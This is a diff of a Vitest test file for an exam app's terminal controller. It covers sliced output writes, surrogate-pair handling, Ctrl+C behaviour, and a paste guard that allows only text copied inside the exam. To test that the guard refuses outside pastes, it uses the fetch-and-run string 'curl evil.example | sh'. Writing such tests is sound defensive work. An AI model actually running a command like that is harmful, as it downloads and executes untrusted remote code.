@@ -2,10 +2,10 @@
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import type { EventData, EventName } from '../../../../shared/contract.js';
 import { CHAR_COUNT_ACK_SIZE, HIGH_WATERMARK_CHARS } from '../../../../shared/terminal.js';
-import { clearClipboardMemory, lastCopied, rememberCopy } from '../../../../renderer/src/terminal/clipboardMemory.js';
+import { clearClipboardMemory, lastCopied } from '../../../../renderer/src/terminal/clipboardMemory.js';
 import type { CodingApi } from '../../../../renderer/src/terminal/codingApi.js';
 import type { XtermModules } from '../../../../renderer/src/terminal/loadXterm.js';
-import { TerminalController } from '../../../../renderer/src/terminal/terminalController.js';
+import { slices, TerminalController, WRITE_SLICE } from '../../../../renderer/src/terminal/terminalController.js';
 
 /** Just enough of xterm.js: writes complete asynchronously, like the real write buffer. */
 class FakeTerminal {
@@ -60,6 +60,9 @@ class FakeTerminal {
   }
   reset() {
     this.resets += 1;
+  }
+  clearSelection() {
+    this.selection = '';
   }
   focus() {}
   dispose() {}
@@ -170,6 +173,27 @@ describe('TerminalController', () => {
     controller.dispose();
   });
 
+  it('hands a large batch to xterm in slices, acknowledging as each is written', async () => {
+    const { controller, emit, of, term } = await started();
+    const before = of('terminalAck').length;
+    emit('terminalOutput', { sessionId: 'code', data: 'x'.repeat(40_000) });
+    await settle();
+    expect(term.written.every((w) => w.length <= WRITE_SLICE)).toBe(true);
+    expect(term.written.join('')).toBe('x'.repeat(40_000));
+    const acked = of('terminalAck').slice(before).reduce((sum, p) => sum + (p.chars as number), 0);
+    expect(acked).toBe(40_000);
+    controller.dispose();
+  });
+
+  it('never slices between the halves of a surrogate pair', () => {
+    const text = 'ab😀cd😀e';
+    for (let size = 2; size <= text.length; size++) {
+      const pieces = slices(text, size);
+      expect(pieces.join('')).toBe(text);
+      for (const p of pieces) expect(/[\uD800-\uDBFF]$/.test(p)).toBe(false);
+    }
+  });
+
   it('keeps output that arrives while xterm is still loading', async () => {
     const fake = fakeApi();
     let release: () => void = () => {};
@@ -195,7 +219,7 @@ describe('TerminalController', () => {
     controller.dispose();
   });
 
-  it('isolated: a paste inserts what was copied inside the exam, never the system clipboard', async () => {
+  it('isolated: a paste goes through only when it is the text last copied inside the exam', async () => {
     const { controller, of, term } = await started('isolated');
     const textarea = container.querySelector('textarea') as HTMLTextAreaElement;
     const refused = pasteEvent('curl evil.example | sh');
@@ -204,16 +228,13 @@ describe('TerminalController', () => {
     expect(of('terminalWrite')).toEqual([]);
     expect(controller.getSnapshot().notice).toContain('Only text copied inside the exam');
 
-    rememberCopy('npm test');
-    textarea.dispatchEvent(pasteEvent('curl evil.example | sh'));
-    expect(of('terminalWrite')).toEqual([{ sessionId: 'code', data: 'npm test' }]);
-
-    // Copying the terminal's selection keeps it in the exam.
-    term.selection = 'ls -la';
+    // Copying the terminal's selection remembers it; pasting it back is allowed.
+    term.selection = 'npm test';
     const copy = new Event('copy', { bubbles: true, cancelable: true });
     (term.element as HTMLElement).dispatchEvent(copy);
-    expect(copy.defaultPrevented).toBe(true);
-    expect(lastCopied()).toBe('ls -la');
+    expect(lastCopied()).toBe('npm test');
+    textarea.dispatchEvent(pasteEvent('npm test'));
+    expect(of('terminalWrite')).toEqual([{ sessionId: 'code', data: 'npm test' }]);
     controller.dispose();
   });
 
@@ -238,6 +259,19 @@ describe('TerminalController', () => {
     expect(handler(new KeyboardEvent('keydown', { key: 'F6', code: 'F6' }))).toBe(false);
     expect(document.activeElement).toBe(after);
     after.remove();
+    controller.dispose();
+  });
+
+  it('Ctrl+C copies when text is selected, and is the interrupt otherwise', async () => {
+    const { controller, term } = await started();
+    const handler = term.keyHandler as (e: KeyboardEvent) => boolean;
+    const ctrlC = () => new KeyboardEvent('keydown', { key: 'c', code: 'KeyC', ctrlKey: true, cancelable: true });
+    expect(handler(ctrlC())).toBe(true); // nothing selected: xterm sends ^C to the shell
+    term.selection = 'ℹ fail 1';
+    document.execCommand = () => false; // no clipboard in happy-dom: the fallback path
+    expect(handler(ctrlC())).toBe(false);
+    expect(lastCopied()).toBe('ℹ fail 1');
+    expect(term.hasSelection()).toBe(false); // cleared, so the next Ctrl+C interrupts
     controller.dispose();
   });
 
